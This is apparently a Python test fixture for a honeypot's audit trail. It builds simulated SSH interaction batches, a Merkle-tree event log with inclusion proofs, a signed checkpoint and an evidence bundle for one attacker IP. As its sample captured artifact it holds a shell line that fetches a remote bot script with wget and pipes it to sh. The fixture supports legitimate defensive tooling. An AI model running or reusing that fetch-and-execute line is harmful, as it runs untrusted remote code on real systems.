"""A small event log, its tree with a node store, a signed checkpoint and a bundle built from it."""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from domain.audit.checkpoint import Checkpoint, SignedCheckpoint
from domain.audit.evidence import EventRow
from domain.audit.merkle import CompactTree
from domain.audit.proofs import inclusion_proof
from domain.observations.batch import InteractionBatch, JournalSpan, ObservationsPurge
from domain.observations.records import InteractionRecord
from domain.shared.meta import CommandMeta
from infrastructure.audit.bundle import BundleWriter
from infrastructure.audit.signing import SigningKey
from infrastructure.eventstore.mapper import MsgspecMapper

ATTACKER = "203.0.113.9"
OTHERS = ("198.51.100.1", "198.51.100.2")
DROPPED = b"#!/bin/sh\nwget http://x/bot.sh -O- | sh\n"
DROPPED_SHA = hashlib.sha256(DROPPED).hexdigest()
T0 = datetime(2026, 11, 1, tzinfo=UTC)


def _record(i: int, ip: str, event: str = "command", **fields: str) -> InteractionRecord:
    ts = T0 + timedelta(seconds=i)
    return InteractionRecord(ts, "decky-01", "ssh", event, ip, "m", {"n": str(i), **fields}, "raw")


def _batches() -> list[list[InteractionRecord]]:
    mixed = [_record(i, (ATTACKER, *OTHERS)[i % 3]) for i in range(10)]
    capture = [
        _record(20, OTHERS[0]),
        _record(21, ATTACKER, "file_captured", sha256=DROPPED_SHA, stored_as="x"),
    ]
    only_others = [_record(30 + i, OTHERS[1]) for i in range(4)]
    return [mixed, capture, only_others, [_record(40, ATTACKER)]]


@dataclass
class EventLog:
    """Stored rows (positions with gaps, as rolled-back inserts leave) and their tree."""

    rows: list[EventRow] = field(default_factory=list)
    tree: CompactTree = field(default_factory=CompactTree)
    nodes: dict[tuple[int, int], bytes] = field(default_factory=dict)
    leaf_index: dict[int, int] = field(default_factory=dict)

    def append(self, row: EventRow) -> None:
        """Record a row and grow the tree and the node store."""
        self.leaf_index[row.position] = self.tree.size
        self.rows.append(row)
        for node in self.tree.append_nodes(row.leaf()):
            self.nodes[(node.level, node.index)] = node.hash

    def audit_path(self, position: int, size: int) -> list[bytes]:
        """The inclusion proof of the row at `position` in the tree of `size` leaves."""
        return inclusion_proof(self.leaf_index[position], size, lambda lv, i: self.nodes[(lv, i)])


def build_log() -> EventLog:
    """Purge events around four batch events, positions 1, 2, 4, 5, ... (gaps on purpose)."""
    mapper = MsgspecMapper()
    log = EventLog()
    position = 1
    for n, records in enumerate(_batches()):
        for event in (
            ObservationsPurge.purge(CommandMeta(None, "192.0.2.1", f"r{n}")).collect_events()[0],
            InteractionBatch.observe(records, [], JournalSpan("j", n * 100, n * 100 + 9))
            .collect_events()[0],
        ):  # fmt: skip
            stored = mapper.to_stored_event(event)
            row = EventRow(position, stored.originator_id, stored.originator_version, stored.topic,
                           stored.state)  # fmt: skip
            log.append(row)
            position += 1 + (position % 3 == 0)
    return log


def by_attacker(record: Any) -> bool:
    """The export's record filter: this attacker's records."""
    return isinstance(record, dict) and record.get("attacker_ip") == ATTACKER


def write_bundle(tmp: Path, key: SigningKey | None = None) -> tuple[Path, SigningKey, EventLog]:
    """An evidence bundle for ATTACKER against a checkpoint over the whole log."""
    key = key or SigningKey.generate()
    log = build_log()
    checkpoint = Checkpoint.at(log.tree.size, log.tree.root(), T0 + timedelta(days=1))
    signed: SignedCheckpoint = key.sign(checkpoint)
    writer = BundleWriter(key, signed, {"attacker_ip": ATTACKER})
    for row in log.rows:
        if row.topic.endswith("InteractionsObserved") and ATTACKER.encode() in row.state:
            writer.add_event(row, log.leaf_index[row.position],
                             log.audit_path(row.position, log.tree.size), by_attacker)  # fmt: skip
    purge = log.rows[0]
    writer.add_event(purge, 0, log.audit_path(purge.position, log.tree.size))
    artifact = tmp / "dropped.sh"
    artifact.write_bytes(DROPPED)
    writer.add_artifact(artifact, DROPPED_SHA)
    path = tmp / "bundle.zip"
    with path.open("wb") as f:
        writer.write(f)
    return path, key, log
